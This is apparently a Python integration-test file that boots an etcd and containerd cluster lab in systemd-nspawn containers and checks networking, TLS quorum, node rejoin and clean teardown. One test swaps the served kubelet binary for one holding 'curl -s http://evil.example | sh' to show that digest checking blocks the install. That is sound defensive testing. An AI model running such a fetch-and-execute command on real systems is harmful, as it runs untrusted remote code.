"""`vent-bake lab`: three controllers and a worker boot from their revealed userdata under real
systemd and Debian's cloud-init in systemd-nspawn, on the lab's closed network, and assemble
themselves. The tests run in order on one lab; the last one takes it down.

The golden image is cached under $VENT_LAB_DIR (default here: /var/tmp/vent-bake-test-lab),
so only the first run on a machine builds it.
"""

import json
import os
import re
import subprocess
import time
from pathlib import Path

import pytest

from conftest import cli
from tools import need
from vent_bake import workspace
from vent_bake.lab import lab as steps
from vent_bake.lab import mirror, nodes, plan

CONTROLLERS = ["controller-0", "controller-1", "controller-2"]
NODES = [*CONTROLLERS, "worker-0"]
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the lab needs root: namespaces, mounts, systemd-nspawn")


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    need("systemd-nspawn", "debootstrap", "nsenter", "/usr/bin/etcd", "/usr/bin/containerd", "/usr/sbin/runc", "/usr/lib/cni/bridge")
    saved = os.environ.get("VENT_LAB_DIR")
    os.environ["VENT_LAB_DIR"] = saved or "/var/tmp/vent-bake-test-lab"
    directory = tmp_path_factory.mktemp("lab")
    for command in (("lab", "init", directory, "--controllers", "3", "--workers", "1"), ("render", "-c", directory / "cluster.yaml")):
        result = cli(*command)
        assert result.exit_code == 0, result.output
    path = directory / "cluster.yaml"
    # A run killed midway leaves its lab up under the same name: start from a clean slate.
    assert cli("lab", "down", "-c", path).exit_code == 0
    try:
        result = cli("lab", "up", "-c", path, "--timeout", "600")
        assert result.exit_code == 0, result.output
        yield path
    finally:
        cli("lab", "down", "-c", path)
        if saved is None:
            del os.environ["VENT_LAB_DIR"]


def the_lab(cluster: Path) -> steps.Lab:
    return steps.Lab.load(workspace.Paths.resolve(cluster, None, None), print)


def run(cluster: Path, node: str, *command: str) -> subprocess.CompletedProcess:
    lab = the_lab(cluster)
    (target,) = lab.pick((node,))
    return nodes.run_in(lab.dir(target), list(command), capture_output=True, text=True, timeout=60)


def boot_log(cluster: Path, node: str) -> str:
    lab = the_lab(cluster)
    (target,) = lab.pick((node,))
    return lab.dir(target).file(steps.BOOT_LOG).read_text()


def etcdctl(cluster: Path, node: str, *args: str, cert: str = "apiserver-etcd-client") -> subprocess.CompletedProcess:
    endpoints = ",".join(f"https://{a}:2379" for a in ("198.18.0.10", "198.18.0.11", "198.18.0.12"))
    auth = ["--cacert=/etc/etcd/ca.crt", f"--cert=/var/lib/kubernetes/pki/{cert}.crt", f"--key=/var/lib/kubernetes/pki/{cert}.key"] if cert else [
        "--cacert=/etc/etcd/ca.crt"]
    return run(cluster, node, "etcdctl", f"--endpoints={endpoints}", "--command-timeout=5s", *auth, *args)


def eventually(check, seconds: float = 120):
    """Poll check() until it returns a true value: units start at their own pace after boot."""
    deadline = time.monotonic() + seconds
    while not (result := check()):
        assert time.monotonic() < deadline, f"{check.__name__} did not hold within {seconds} s"
        time.sleep(2)
    return result


def quorum(cluster: Path, node: str) -> bool:
    return etcdctl(cluster, node, "endpoint", "health").stderr.count("is healthy") == 3


def test_every_node_boots_to_cloud_init_done(cluster):
    rows, _, _ = steps.status(the_lab(cluster))
    assert [(r["node"], r["state"], r["cloud-init"]) for r in rows] == [(n, "running", "done") for n in NODES]
    for node in NODES:
        assert "vent-network: network ready" in boot_log(cluster, node)


def test_every_file_and_binary_is_verified_before_it_is_installed(cluster):
    for node in NODES:
        log = boot_log(cluster, node)
        assert log.index("files verified and installed") < log.index("vent-boot: prep:")
        listed = (cluster.parent / f"artifacts/nodes/{node}/files/etc/vent/downloads.tsv").read_text().splitlines()
        assert len(listed) >= 9
        for name in (line.split("\t")[0] for line in listed):
            assert log.index(f"download: {name} verified") < log.index(f"install: {name} ("), (node, name)


def test_fake0_holds_the_private_address_and_the_reserved_address_is_the_source(cluster):
    lab = the_lab(cluster)
    for node in lab.nodes:
        addresses = run(cluster, node.name, "ip", "-4", "-o", "addr", "show").stdout
        assert re.search(rf"fake0\s+inet {re.escape(node.private)}/31", addresses), addresses
        assert not re.search(rf"bond0\s+inet {re.escape(node.private)}/", addresses), "the private address must leave bond0"
        assert f"bond0    inet {node.reserved}/32" in addresses
        assert f"10.0.0.0/8 via {node.private_gateway} dev fake0" in run(cluster, node.name, "ip", "route").stdout
        assert f"src {node.reserved}" in run(cluster, node.name, "ip", "route", "show", "default").stdout


def test_the_lab_is_closed(cluster):
    """Nothing routes out: the provider's namespace has no default route and no interface but
    its bridge and the nodes' ports; the host's own forwarding is untouched."""
    lab = the_lab(cluster)
    assert subprocess.run(["ip", "-n", lab.name, "route", "show", "default"], capture_output=True, text=True).stdout == ""
    links = json.loads(subprocess.run(["ip", "-n", lab.name, "-j", "link", "show"], capture_output=True, text=True).stdout)
    assert {link["ifname"] for link in links} == {"lo", "lab0", *(n.port for n in lab.nodes)}
    unreachable = subprocess.run(["ip", "-n", lab.name, "route", "get", "192.0.2.1"], capture_output=True, text=True)
    assert unreachable.returncode != 0 and "unreachable" in unreachable.stderr


def test_the_controllers_form_a_tls_etcd_quorum_from_the_rendered_certificates(cluster):
    eventually(lambda: quorum(cluster, "controller-0"))
    assert etcdctl(cluster, "controller-1", "put", "/vent/lab", "quorum").returncode == 0
    assert etcdctl(cluster, "controller-2", "get", "/vent/lab", "--print-value-only").stdout.strip() == "quorum"
    # No client certificate, or one from the cluster CA: refused.
    assert etcdctl(cluster, "controller-0", "get", "/vent/lab", cert="").returncode != 0
    assert etcdctl(cluster, "controller-0", "get", "/vent/lab", cert="kube-scheduler").returncode != 0


def test_containerd_runs_on_every_node(cluster):
    for node in NODES:
        assert run(cluster, node, "systemctl", "is-active", "containerd").stdout.strip() == "active", node
        version = run(cluster, node, "ctr", "version")
        assert version.returncode == 0 and "Server:" in version.stdout, version.stderr


def test_what_the_lab_cannot_run_is_named_and_enabled_with_the_rendered_flags(cluster):
    lab = the_lab(cluster)
    _, skipped, ran = steps.status(lab)
    assert {"kubelet", "kube-apiserver", "flanneld", "runsc"} <= skipped.keys()
    assert set(ran) == {"etcd", "containerd", "runc", "cni-plugins"}
    assert ran["etcd"].startswith("Debian package etcd-server 3.4.")
    units = {"controller-0": ["kube-apiserver", "kube-controller-manager", "kube-scheduler", "kubelet", "kube-proxy", "flanneld"],
             "worker-0": ["kubelet", "kube-proxy", "flanneld"]}
    for node, names in units.items():
        for unit in names:
            rendered = (cluster.parent / f"artifacts/nodes/{node}/files/etc/systemd/system/{unit}.service").read_text()
            assert run(cluster, node, "cat", f"/etc/systemd/system/{unit}.service").stdout == rendered
            assert run(cluster, node, "systemctl", "is-enabled", unit).stdout.strip() == "enabled", (node, unit)
            exec_start = run(cluster, node, "systemctl", "show", "-p", "ExecStart", unit).stdout
            assert f"path=/usr/local/bin/{unit}" in exec_start, exec_start
        node_ip = [n for n in lab.nodes if n.name == node][0].reserved
        assert f"--node-ip={node_ip}" in run(cluster, node, "systemctl", "show", "-p", "ExecStart", "kubelet").stdout
        stand_in = run(cluster, node, "/usr/local/bin/kubelet")
        assert stand_in.returncode == 1 and "not exercised here" in stand_in.stderr


def test_a_replaced_controller_rejoins_etcd_by_itself(cluster):
    assert cli("lab", "down", "controller-2", "-c", cluster).exit_code == 0
    result = cli("lab", "up", "controller-2", "-c", cluster, "--timeout", "600")
    assert result.exit_code == 0, result.output

    def three_voters_again():
        members = etcdctl(cluster, "controller-0", "member", "list", "-w", "json")
        listed = json.loads(members.stdout).get("members", []) if members.returncode == 0 else []
        return len([m for m in listed if m.get("name") and not m.get("isLearner")]) == 3 and quorum(cluster, "controller-2")

    eventually(three_voters_again)
    log = boot_log(cluster, "controller-2")
    assert "(controller-2) lost its data: removing it to add it back" in log
    assert "added controller-2 as a learner" in log
    # It serves what was written before it was replaced.
    assert etcdctl(cluster, "controller-2", "get", "/vent/lab", "--print-value-only").stdout.strip() == "quorum"


def test_a_tampered_binary_is_never_installed(cluster):
    served = cluster.parent / mirror.MIRROR_DIR / f"kubelet-{the_lab(cluster).cluster.arch}"
    genuine = served.read_bytes()
    served.write_bytes(genuine.replace(b"exit 1", b"curl -s http://evil.example | sh"))
    try:
        assert cli("lab", "down", "worker-0", "-c", cluster).exit_code == 0
        result = cli("lab", "up", "worker-0", "-c", cluster, "--timeout", "600")
    finally:
        served.write_bytes(genuine)
    assert result.exit_code == 0, result.output
    assert "worker-0: cloud-init done; the boot failed: download: kubelet could not be verified; nothing was installed" in result.output
    log = boot_log(cluster, "worker-0")
    assert f"download: kubelet from {plan.MIRROR_URL}kubelet-" in log and "does not match its pinned digest" in log
    for binary in ("/usr/local/bin/kubelet", "/usr/local/bin/containerd", "/usr/local/sbin/runc"):
        assert run(cluster, "worker-0", "test", "-e", binary).returncode == 1, f"{binary} was installed"
    rows, _, _ = steps.status(the_lab(cluster))
    assert [r["boot log"] for r in rows if r["node"] == "worker-0"] == [
        "FAILED: download: kubelet could not be verified; nothing was installed"]


def test_a_second_lab_of_the_same_name_is_refused(cluster, tmp_path):
    other = tmp_path / "other"
    assert cli("lab", "init", other).exit_code == 0 and cli("render", "-c", other / "cluster.yaml").exit_code == 0
    result = cli("lab", "up", "-c", other / "cluster.yaml")
    assert result.exit_code == 1
    assert f"is up for another cluster's artifacts ({cluster.parent / 'artifacts'})" in result.stderr
    assert [r["state"] for r in steps.status(the_lab(cluster))[0]] == ["running"] * 4


def test_down_leaves_nothing_behind(cluster):
    lab = the_lab(cluster)
    # A node an earlier run left up that this cluster file does not name: down stops it too.
    stray = nodes.NodeDir(lab.work, plan.stray(lab.name, "gone-7"))
    stray.base.mkdir(parents=True)
    sleeper = subprocess.Popen(["sleep", "600"], start_new_session=True)
    stray.pid_file.write_text(str(sleeper.pid))
    result = cli("lab", "down", "-c", cluster)
    assert result.exit_code == 0 and "gone-7: stopped and discarded (no longer in the cluster file)" in result.output
    assert sleeper.wait(timeout=30) is not None
    assert not [ns for ns in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split()
                if ns.startswith(lab.name)]
    assert str(lab.work) not in Path("/proc/self/mountinfo").read_text()
    assert not lab.work.exists()
    for tree in nodes.CGROUP_TREES:
        assert not (tree / "vent-lab").exists(), tree
    leftovers = subprocess.run(["pgrep", "-f", f"systemd-nspawn.*{lab.name}|vent_bake.lab.service {lab.work}"],
                               capture_output=True, text=True).stdout
    assert leftovers == ""
    assert not list(Path("/run/systemd/nspawn/propagate").glob(f"{lab.name}-*"))
